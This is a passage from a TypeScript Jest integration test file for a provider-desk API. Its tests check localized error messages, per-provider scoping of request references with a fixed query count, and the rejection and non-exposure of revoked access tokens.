    expect((await broken('?lang=nl', 'en').expect(400)).body.detail).toBe(dutch);
  });

  it("names a page of requests by Steward's reference (the webhooks page's rows), only the provider's own, in two statements whatever the page's length", async () => {
    const first = await estateWithRequests();
    const second = await estateWithRequests();
    const ourReference = async (id: string) => (await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path: { id } }).expect(200)).body.ourReference;
    const issued = jest.spyOn(t.app.get(DataSource).logger, 'logQuery');
    const references = await t.app.get(ProviderDeskService).references(kpn.id, [first.kpnContract.id, second.kpnContract.id, first.enecoContract.id, randomUUID()]);
    const statements = issued.mock.calls.length;
    issued.mockRestore();
    expect(references).toEqual(new Map([[first.kpnContract.id, await ourReference(first.kpnContract.id)], [second.kpnContract.id, await ourReference(second.kpnContract.id)]]));
    expect(statements).toBe(2);
  });

  it('stops accepting a revoked token', async () => {
    const issued = (await t.admin.post(`${API}/providers/${kpn.id}/tokens`, { label: 'temporary' }).expect(201)).body;
    const desk = providerClient(t.app.getHttpServer(), issued.token);
    await desk.get('/api/v1/provider-desk/requests', {}).expect(200);
    await t.admin.delete(`${API}/providers/${kpn.id}/tokens/${issued.id}`).expect(204);
    await desk.get('/api/v1/provider-desk/requests', {}).expect(401);
    const listed = (await t.admin.get(`${API}/providers/${kpn.id}/tokens`).expect(200)).body;
    expect(JSON.stringify(listed)).not.toContain(issued.token);
    expect((await db.query(`SELECT count(*)::int AS n FROM provider_tokens WHERE token_hash = $1`, [issued.token])).rows[0].n).toBe(0);
  });
});
